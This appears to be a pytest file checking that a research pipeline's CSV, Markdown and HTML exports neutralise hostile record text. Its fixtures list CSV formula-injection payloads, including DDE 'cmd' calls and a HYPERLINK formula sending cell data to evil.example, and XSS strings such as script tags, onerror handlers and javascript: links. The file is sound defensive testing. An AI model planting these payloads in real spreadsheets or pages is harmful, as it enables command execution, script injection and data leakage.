"""Exports carry no live content (issue 20, item 5): CSV cells are never spreadsheet formulas,
Markdown never passes HTML or javascript: links through, the HTML site stays escaped.

The database is built in the test with hostile record text at every exported field.
"""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from pipeline.cli.app import app
from pipeline.models import Article
from pipeline.reports.export import FORMULA_TRIGGERS, csv_cell, md_text
from pipeline.reports.site import build_site
from pipeline.store import connect
from pipeline.store.articles import upsert_articles

runner = CliRunner()

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HTML = ["<script>alert(1)</script>", '<svg onload="alert(1)">', "[click me](javascript:alert(1))",
        "<img src=x onerror=alert(1)>", "![x](javascript:alert(1))", "<javascript:alert(1)>"]


@pytest.fixture
def db(tmp_db):
    con = connect(tmp_db)
    arts = []
    for i, text in enumerate(FORMULAS + HTML):
        arts.append(Article(pmid=1000 + i, title=text, abstract="x", year=2000 + i, journal=text,
                            source_format="tabular"))
    upsert_articles(con, arts)
    con.execute("INSERT INTO claims (claim_id, title, therapy, condition, seed_strength, query) VALUES "
                "('C01', ?, 'PRP', 'knee', 'asserted', 'knee')", [HTML[0] + " " + FORMULAS[0]])
    for a in arts:
        con.execute("INSERT INTO claim_articles (claim_id, pmid, relevance, linked, direction, direction_sentence, "
                    "linker_version) VALUES ('C01', ?, 1.0, TRUE, 'supports', ?, 'test')", [a.pmid, a.title])
        con.execute("INSERT INTO evidence_levels VALUES ('C01', ?, 2, ?, 'rct', TRUE, NULL)", [a.pmid, a.title])
    con.close()
    return tmp_db


@pytest.fixture
def site(db, tmp_path):
    with connect(db) as con:
        build_site(con, tmp_path / "site", generated_at="fixed")
    return tmp_path / "site"


def _cells(path):
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


@pytest.mark.parametrize("name", ["claims/C01.csv", "claims.csv"])
def test_site_csvs_have_no_cell_a_spreadsheet_would_run(site, name):
    cells = _cells(site / name)
    assert cells and not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]


def test_site_csv_keeps_the_text_behind_a_single_quote(site):
    cells = _cells(site / "claims/C01.csv")
    for f in FORMULAS:
        assert "'" + f in cells
    assert "2000" in cells  # numbers are not quoted


def _render(md: str) -> str:
    """What a renderer that passes inline HTML through (the common GitHub-like setting) makes of it."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(md)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += attrs


@pytest.mark.parametrize("name", ["claims/C01.md", "claims.md"])
def test_site_markdown_renders_no_html_or_script_links(site, name):
    html = _render((site / name).read_text(encoding="utf-8"))
    parsed = _Tags()
    parsed.feed(html)
    # only the structure we write: headings, bold grade, the steps and study lists, the tables, the one
    # command we name; no element or attribute from data
    assert parsed.tags <= {"h1", "h2", "h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "ol", "ul", "li",
                           "blockquote", "code"}, parsed.tags
    assert parsed.attrs == [] or {k for k, _ in parsed.attrs} <= {"style"}, parsed.attrs
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as text, every character kept


def test_the_same_files_before_escaping_would_render_live_content():
    """The check above can fail: the raw hostile text through the same renderer makes script,
    svg and img elements and a javascript: link."""
    parsed = _Tags()
    parsed.feed(_render("| t |\n|---|\n" + "".join(f"| {h} |\n" for h in HTML)))
    assert {"script", "svg", "img"} <= parsed.tags


def test_no_javascript_link_can_form_from_markdown_text(site):
    """markdown-it refuses javascript: URLs itself; other renderers do not, so the files carry
    neither link syntax from data nor a live scheme."""
    for name in ("claims/C01.md", "claims.md"):
        md = (site / name).read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)\]\(", md) and "<javascript" not in md.lower()  # no unescaped ](
        assert "javascript:" not in md.lower()
    assert "javascript&#58;alert(1)" in (site / "claims/C01.md").read_text(encoding="utf-8")


def test_markdown_cell_text_renders_as_the_same_characters():
    md = MarkdownIt("commonmark", {"html": True})
    for text in HTML + ["a | b", "*bold* _it_ `code`", "x & y < z", "C:\\path\\[1]", "#1 !important ~~s~~"]:
        html = md.render(md_text(text))
        # strip the paragraph and decode entities: the reader sees exactly the original characters
        import html as h

        shown = h.unescape(re.sub(r"</?p>\n?", "", html)).strip()
        assert shown == text.strip(), (text, html)


def test_html_site_still_escapes(site):
    page = (site / "claims/C01.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    assert '<svg onload="alert(1)">' not in page


def test_csv_cell_only_changes_text_that_starts_a_formula():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3 and csv_cell("a=b") == "a=b" and csv_cell("") == ""


def test_query_csv_neutralises_formulas_json_and_table_stay_exact(db, tmp_path):
    sql = "SELECT pmid, title, year - 3000 AS neg FROM articles ORDER BY pmid"
    out = tmp_path / "q.csv"
    r = runner.invoke(app, ["query", sql, "--db", str(db), "-f", "csv", "-o", str(out)])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [x["title"] for x in rows[:len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert rows[0]["neg"] == "-1000"  # a number is never quoted
    r = runner.invoke(app, ["query", sql, "--db", str(db), "-f", "csv"])  # stdout CSV too
    assert r.exit_code == 0 and "'=cmd|" in r.stdout
    r = runner.invoke(app, ["query", sql, "--db", str(db), "-f", "csv", "--exact-csv"])
    assert r.exit_code == 0
    assert [x["title"] for x in csv.DictReader(r.stdout.splitlines())][1] == FORMULAS[1]
    r = runner.invoke(app, ["query", sql, "--db", str(db), "-f", "json"])
    assert [json.loads(line)["title"] for line in r.stdout.splitlines()][:len(FORMULAS)] == FORMULAS


def test_query_csv_writes_list_and_struct_cells_as_json(db):
    """grade_history.eligible_pmids and reasons are lists: pyarrow's CSV writer refused them ("Unsupported Type"), so a
    reviewer's `evidence query ... -f csv` over that table failed."""
    sql = "SELECT 1 AS n, [23412171, 2] AS pmids, ['first_grade'] AS reasons, {'a': 1} AS s, CAST(NULL AS INTEGER[]) AS none"
    r = runner.invoke(app, ["query", sql, "--db", str(db), "-f", "csv"])
    assert r.exit_code == 0, r.output
    row = next(csv.DictReader(r.stdout.splitlines()))
    assert json.loads(row["pmids"]) == [23412171, 2] and json.loads(row["reasons"]) == ["first_grade"]
    assert json.loads(row["s"]) == {"a": 1} and row["none"] == "" and row["n"] == "1"
